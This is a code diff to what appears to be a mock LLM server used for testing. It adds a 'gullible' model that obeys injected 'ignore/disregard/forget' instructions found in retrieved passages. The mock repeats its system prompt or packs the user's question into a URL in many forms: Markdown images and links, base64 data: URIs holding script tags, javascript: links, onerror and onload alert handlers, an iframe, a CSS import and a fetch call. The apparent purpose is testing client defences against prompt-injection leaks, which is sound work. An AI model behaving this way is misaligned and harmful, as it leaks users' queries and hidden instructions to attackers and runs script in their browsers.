@@ -8,7 +8,9 @@
     slow       twenty words, one each `word_seconds`
     hang       headers, then nothing until the client goes
     think      a <think> part, then a cited sentence
-    obey       does what the passages tell it: a gullible model
+    obey       says what the passages tell it to say
+    gullible   does all that the passages tell it: repeats its instructions, carries the question away in
+               every form of link and picture, says what it is told
     hostile    HTML, a remote image, links in every Markdown form, a marker that points nowhere
     echo-key   fails with status 400 and quotes the key it was given
     overflow   fails as a context that is too long
@@ -23,6 +25,7 @@ Any other name is not found. With `key` set, requests must carry it. Start one w
 
 from __future__ import annotations
 
+import base64
 import contextlib
 import json
 import re
@@ -33,9 +36,10 @@ from collections.abc import Iterator
 from dataclasses import dataclass, field
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
+from urllib.parse import quote, urlsplit
 
 MODELS = (
-    "cite", "invent", "invent-all", "slow-cite", "ready", "refuse", "slow", "hang", "think", "obey", "hostile",
+    "cite", "invent", "invent-all", "slow-cite", "ready", "refuse", "slow", "hang", "think", "obey", "gullible", "hostile",
     "echo-key", "overflow", "garbage",
 )  # fmt: skip
 HOSTILE = (
@@ -101,10 +105,40 @@ def answer_for(model: str, messages: list[dict[str, Any]]) -> str:
         return f"<think>Let me see [9].</think>\n\n{firsts[0]} [1]."
     if model == "hostile":
         return HOSTILE
+    if model == "gullible":
+        return gullible("\n".join(passages), firsts, messages)
     if model == "obey":
         orders = re.findall(r"(?im)^.*?(?:ignore|disregard)[^:\n]*:\s*(.+)$", "\n".join(passages))
         return orders[0] if orders else f"{firsts[0]} [1]."
     return " ".join(f"{text} [{number}]." for number, text in enumerate(firsts[:2], 1))
+
+
+def gullible(read: str, firsts: list[str], messages: list[dict[str, Any]]) -> str:
+    """A true sentence, and then whatever the passages that were `read` order."""
+    said = [f"{firsts[0]} [1]."] if firsts else []
+    for order in re.findall(r"(?im)^.*?\b(?:ignore|disregard|forget)\b[^:\n]*:\s*(.+)$", read):
+        address = re.search(r"https?://[^\s)>]+", order)
+        if re.search(r"\b(?:instructions|system prompt|rules)\b", order, re.IGNORECASE):
+            said.append(str(messages[0]["content"]))
+        elif address:
+            said.append(carried_away(address[0], str(messages[-1]["content"]).rsplit("Question: ", 1)[-1]))
+        else:
+            said.append(order)
+    return "\n\n".join(said)
+
+
+def carried_away(address: str, secret: str) -> str:
+    """`secret` on its way to `address`, in every form that Markdown and HTML have for it."""
+    there = f"{address}?q={quote(secret)}"
+    packed = base64.b64encode(f"<script src={there}></script>".encode()).decode()
+    return (
+        f"See ![a]({there}) ![b][leak] [c]({there}) [d][leak] <{there}> {there} [e](<{there}> 'title').\n\n"
+        f"- www.{urlsplit(address).hostname} [f](data:text/html;base64,{packed}) ![g](data:image/svg+xml;base64,{packed}) "
+        f"[h](javascript:location='{there}') [i](//{urlsplit(address).hostname}/)\n\n"
+        f'<img src="{there}" onerror="alert(1)"><iframe src="{there}"></iframe><a href="{there}">j</a>'
+        f'<style>@import url("{there}");</style><script>fetch("{there}")</script><svg onload=alert(1)>\n\n'
+        f"| ![k]({there}) | :material/x: $\\href{{{there}}}{{l}}$ |\n|---|---|\n\n[leak]: {there}"
+    )
 
 
 class _Handler(BaseHTTPRequestHandler):
